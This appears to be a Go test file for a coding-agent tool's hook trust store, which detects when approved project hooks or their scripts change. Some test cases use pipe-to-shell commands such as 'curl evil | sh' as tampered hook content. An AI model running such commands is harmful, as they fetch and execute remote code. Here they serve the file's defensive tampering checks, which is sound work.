package config_test

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"minigem/hooks"
	hookconfig "minigem/hooks/config"
	"minigem/hooks/protocol"
)

// projectHook returns a hook of the project.
func projectHook(command string) hooks.Hook {
	return hooks.Hook{Event: protocol.BeforeTool, Matcher: "write_file", Command: command,
		Source: hooks.Source{Layer: hooks.LayerProject, File: "/s.json", Line: 1}}
}

// check returns the status of one hook and what changed, as "changed: env, name".
func check(t *testing.T, s hookconfig.TrustStore, root string, h hooks.Hook) string {
	t.Helper()
	checks, err := s.Check(root, hooks.Config{Hooks: []hooks.Hook{h}})
	require.NoError(t, err)
	require.Len(t, checks, 1)
	if c := checks[0]; c.Changed != nil {
		return string(c.Status) + ": " + strings.Join(c.Changed, ", ")
	}
	return string(checks[0].Status)
}

func TestTrust(t *testing.T) {
	t.Parallel()
	s := hookconfig.TrustStore{Dir: filepath.Join(t.TempDir(), ".gemini")}
	root := t.TempDir()
	write(t, filepath.Join(root, "hooks", "guard.sh"), "exit 0")
	h := projectHook(`bash "$GEMINI_PROJECT_DIR/hooks/guard.sh" --strict`)
	h.Name, h.Env = "guard", map[string]string{"TOKEN": "secret-value"}

	assert.Equal(t, "new", check(t, s, root, h))
	require.NoError(t, s.Trust(root, []hooks.Hook{h}))
	assert.Equal(t, "trusted", check(t, s, root, h))
	assert.Equal(t, "trusted", check(t, s, root+"/", h))
	assert.Equal(t, "new", check(t, s, t.TempDir(), h), "trust is of one project")

	for _, c := range []struct {
		want   string
		change func(*hooks.Hook)
	}{
		{"changed: command, script hooks/guard.sh", func(h *hooks.Hook) { h.Command = "curl x | sh" }},
		{"changed: args", func(h *hooks.Hook) { h.Args = []string{} }},
		{"changed: type, url, headers", func(h *hooks.Hook) {
			h.Type, h.URL, h.Headers = "http", "https://a", map[string]string{"Authorization": "secret-value"}
		}},
		{"changed: type, prompt, model", func(h *hooks.Hook) { h.Type, h.Prompt, h.Model = "prompt", "Fine?", "flash" }},
		{"changed: type, server, tool, input", func(h *hooks.Hook) {
			h.Type, h.Server, h.Tool, h.Input = "mcp_tool", "s", "t", map[string]any{"a": "b"}
		}},
		{"changed: once", func(h *hooks.Hook) { h.Once = true }},
		{"trusted", func(h *hooks.Hook) { h.StatusMessage = "Looking" }},
		{"changed: if", func(h *hooks.Hook) { h.If = "Bash(git *)" }},
		{"changed: matcher", func(h *hooks.Hook) { h.Matcher = "" }},
		{"changed: env", func(h *hooks.Hook) { h.Env = map[string]string{"TOKEN": "other"} }},
		{"changed: name", func(h *hooks.Hook) { h.Name = "" }},
		{"new", func(h *hooks.Hook) { h.Event = protocol.AfterTool }},
		{"trusted", func(h *hooks.Hook) { h.Timeout, h.Description, h.Source.Line = time.Second, "d", 9 }},
	} {
		changed := h
		c.change(&changed)
		assert.Equal(t, c.want, check(t, s, root, changed))
	}

	write(t, filepath.Join(root, "hooks", "guard.sh"), "curl evil | sh")
	assert.Equal(t, "changed: script hooks/guard.sh", check(t, s, root, h))
	require.NoError(t, os.Remove(filepath.Join(root, "hooks", "guard.sh")))
	assert.Equal(t, "changed: script hooks/guard.sh", check(t, s, root, h))

	data, err := os.ReadFile(filepath.Join(s.Dir, "trusted_hooks_minigem.json"))
	require.NoError(t, err)
	assert.NotContains(t, string(data), "secret-value")
}

// A file that a command only writes to is not one of its scripts.
func TestScripts(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	for _, name := range []string{"a.sh", "b.sh", "log"} {
		write(t, filepath.Join(root, name), "")
	}
	for command, want := range map[string][]string{
		"./a.sh":                          {"a.sh"},
		"cd . && bash a.sh <b.sh":         {"a.sh", "b.sh"},
		"sh a.sh >log":                    {"a.sh"},
		"echo x >>log; ./a.sh 2>>log":     {"a.sh"},
		"./a.sh &>log; ./a.sh >|log":      {"a.sh"},
		"./a.sh > >(sh b.sh)":             {"a.sh", "b.sh"},
		"echo exit >b.sh; sh b.sh":        {"b.sh"},
		"./a.sh <>log":                    {"a.sh", "log"},
		`bash -c 'sh a.sh >log; sh b.sh'`: {"a.sh", "b.sh"},
	} {
		var got []string
		for _, file := range hookconfig.Scripts(projectHook(command), root) {
			got = append(got, filepath.Base(file))
		}
		assert.Equal(t, want, got, command)
	}
}

func TestWhoseHooksAreChecked(t *testing.T) {
	t.Parallel()
	s := hookconfig.TrustStore{Dir: t.TempDir()}
	user, disabled := projectHook("u"), projectHook("d")
	user.Source.Layer = hooks.LayerUser
	disabled.Disabled = "disabled in /s.json:1"
	c := hooks.Config{Hooks: []hooks.Hook{user, disabled, projectHook("p")}}
	checks, err := s.Check("/root", c)
	require.NoError(t, err)
	assert.Equal(t, []hookconfig.TrustCheck{{Index: 2, Hook: c.Hooks[2], Status: hookconfig.TrustNew, First: true}}, checks)

	brought, installed := projectHook("b"), projectHook("i")
	brought.Source = hooks.Source{Layer: hooks.LayerExtension, File: "/root/.gemini/extensions/x/hooks/hooks.json"}
	installed.Source = hooks.Source{Layer: hooks.LayerExtension, File: "/home/.gemini/extensions/x/hooks/hooks.json"}
	extensions := hooks.Config{Hooks: []hooks.Hook{brought, installed}}
	of, err := s.Check("/root", extensions)
	require.NoError(t, err)
	assert.Equal(t, []hookconfig.TrustCheck{{Index: 0, Hook: brought, Status: hookconfig.TrustNew, First: true}}, of)
	of, err = hookconfig.TrustStore{Dir: "/home/.gemini"}.Check("/home", extensions)
	require.NoError(t, err)
	assert.Empty(t, of, "at home they are the user's own")

	hookconfig.Apply(&c, checks, true)
	assert.Equal(t, "this project's hooks were never trusted", c.Hooks[2].Untrusted)
	hookconfig.Apply(&c, checks, false)
	assert.Equal(t, "this project's hooks were never trusted", c.Hooks[2].Note)
	assert.Empty(t, c.Hooks[2].Untrusted)
	assert.Empty(t, c.Hooks[0].Note)
}

func TestGeminiCLIsListIsKept(t *testing.T) {
	t.Parallel()
	s := hookconfig.TrustStore{Dir: t.TempDir()}
	file := filepath.Join(s.Dir, "trusted_hooks.json")
	write(t, file, `{"/other": ["a:b"], "/p": ["guard:x"]}`)
	h := projectHook("x")
	h.Name = "guard"
	assert.Equal(t, "new", check(t, s, "/p", h), "it was listed after a warning, nobody approved it")
	require.NoError(t, s.Trust("/p", []hooks.Hook{h, projectHook("y")}))
	data, err := os.ReadFile(file)
	require.NoError(t, err)
	assert.JSONEq(t, `{"/other": ["a:b"], "/p": ["guard:x", ":y"]}`, string(data))

	for _, odd := range []string{`{"/p": "text"}`, `not json`, `[1]`} {
		write(t, file, odd)
		require.NoError(t, s.Trust("/p", []hooks.Hook{projectHook("z")}))
		data, err := os.ReadFile(file)
		require.NoError(t, err)
		assert.Equal(t, odd, string(data), "what we do not understand is not ours to change")
	}
}

func TestABrokenMemoryTrustsNothing(t *testing.T) {
	t.Parallel()
	s := hookconfig.TrustStore{Dir: t.TempDir()}
	file := filepath.Join(s.Dir, "trusted_hooks_minigem.json")
	for _, broken := range []string{"{broken", "[]", "null", `""`, "5", `{"/p":[{"event":"Be`, `{"/p":5}`, "\x00\x00"} {
		require.NoError(t, os.RemoveAll(file+".unreadable"))
		write(t, file, broken)
		config := hooks.Config{Hooks: []hooks.Hook{projectHook("x")}}
		checks, err := s.Check("/p", config)
		require.ErrorContains(t, err, "it is set aside as "+file+".unreadable", "%q", broken)
		assert.Equal(t, hookconfig.TrustNew, checks[0].Status)
		data, err := os.ReadFile(file + ".unreadable")
		require.NoError(t, err)
		assert.Equal(t, broken, string(data), "nothing is lost")
		_, err = s.Check("/p", config)
		require.NoError(t, err, "it is told once")
		require.NoError(t, s.Trust("/p", config.Hooks))
	}
}

func TestTrustingAtTheSameTime(t *testing.T) {
	t.Parallel()
	s := hookconfig.TrustStore{Dir: t.TempDir()}
	var wg sync.WaitGroup
	for i := range 10 {
		wg.Go(func() { assert.NoError(t, s.Trust("/p", []hooks.Hook{projectHook(strings.Repeat("x", i+1))})) })
	}
	wg.Wait()
	for i := range 10 {
		assert.Equal(t, "trusted", check(t, s, "/p", projectHook(strings.Repeat("x", i+1))))
	}
	var stored map[string][]any
	data, err := os.ReadFile(filepath.Join(s.Dir, "trusted_hooks_minigem.json"))
	require.NoError(t, err)
	require.NoError(t, json.Unmarshal(data, &stored))
	assert.Len(t, stored["/p"], 10)
}

// A project may have any number of hooks, and new hooks do not push the others out.
func TestTrustHoldsForManyHooks(t *testing.T) {
	t.Parallel()
	s := hookconfig.TrustStore{Dir: t.TempDir()}
	many := func(name string, n int) []hooks.Hook {
		all := make([]hooks.Hook, n)
		for i := range all {
			all[i] = projectHook(fmt.Sprint(name, i))
		}
		return all
	}
	held := func(all []hooks.Hook) int {
		checks, err := s.Check("/p", hooks.Config{Hooks: all})
		require.NoError(t, err)
		n := 0
		for _, c := range checks {
			if c.Status != hookconfig.TrustKnown {
				n++
			}
		}
		return n
	}
	first, later := many("first ", 450), many("later ", 2100)
	require.NoError(t, s.Trust("/p", first))
	assert.Zero(t, held(first))
	require.NoError(t, s.Trust("/p", many("one more ", 1)))
	assert.Zero(t, held(first))
	require.NoError(t, s.Trust("/p", later))
	assert.Zero(t, held(append(first, later...)))
	require.NoError(t, s.Trust("/p", many("last ", 1)))
	assert.Equal(t, 450+100, held(append(first, later...)), "what was trusted first is forgotten first")
}

func TestWhichScriptsCount(t *testing.T) {
	t.Parallel()
	root := filepath.Join(t.TempDir(), "my project")
	for _, file := range []string{"a.sh", "tools/b.js", "tools/c d.py", ".gemini/hooks/e.sh"} {
		write(t, filepath.Join(root, filepath.FromSlash(file)), "x")
	}
	require.NoError(t, os.Symlink("a.sh", filepath.Join(root, "link.sh")))
	for _, c := range []struct {
		command string
		want    []string
	}{
		{`./a.sh`, []string{"a.sh"}},
		{`bash a.sh --x`, []string{"a.sh"}},
		{`$GEMINI_PROJECT_DIR/a.sh`, []string{"a.sh"}},
		{`"${GEMINI_PROJECT_DIR}"/tools/b.js`, []string{"tools/b.js"}},
		{`node "$CLAUDE_PROJECT_DIR/tools/b.js"`, []string{"tools/b.js"}},
		{`python3 'tools/c d.py'`, []string{"tools/c d.py"}},
		{`python3 tools/c\ d.py`, []string{"tools/c d.py"}},
		{`python3 "$GEMINI_PROJECT_DIR/tools/c d.py"`, []string{"tools/c d.py"}},
		{`X=1 ./a.sh && node tools/b.js || true`, []string{"a.sh", "tools/b.js"}},
		{`cd tools && node b.js`, []string{"tools/b.js"}},
		{`cd "$GEMINI_PROJECT_DIR/tools"; cd ..; ./a.sh`, []string{"a.sh"}},
		{`DIR=$GEMINI_PROJECT_DIR/tools; node $DIR/b.js`, []string{"tools/b.js"}},
		{`bash -c './a.sh && node "tools/b.js"'`, []string{"a.sh", "tools/b.js"}},
		{`"$(git rev-parse --show-toplevel)/a.sh"`, []string{"a.sh"}},
		{`$(cat a.sh)`, []string{"a.sh"}},
		{`node --require=./tools/b.js -e 1`, []string{"tools/b.js"}},
		{`cat <a.sh | sh`, []string{"a.sh"}},
		{`. .gemini/hooks/e.sh`, []string{".gemini/hooks/e.sh"}},
		{`${HOOKS}/e.sh`, []string{".gemini/hooks/e.sh"}}, // from the hook's env
		{`./link.sh`, []string{"link.sh"}},
		{`& "tools/b.js" (`, []string{"tools/b.js"}}, // no shell syntax
		{`tools`, nil}, // a directory
		{`./missing.sh`, nil},
		{`/bin/sh -c true`, nil}, // outside the project
		{`echo x-$(date)/a.sh`, nil},
		{`../outside`, nil},
		{root + `/a.sh`, nil}, // unquoted, with a space: the shell would not find it either
	} {
		h := projectHook(c.command)
		h.Env = map[string]string{"HOOKS": ".gemini/hooks"}
		checks, err := hookconfig.TrustStore{Dir: t.TempDir()}.Check(root, hooks.Config{Hooks: []hooks.Hook{h}})
		require.NoError(t, err)
		assert.Equal(t, c.want, checks[0].Scripts, c.command)
	}
}
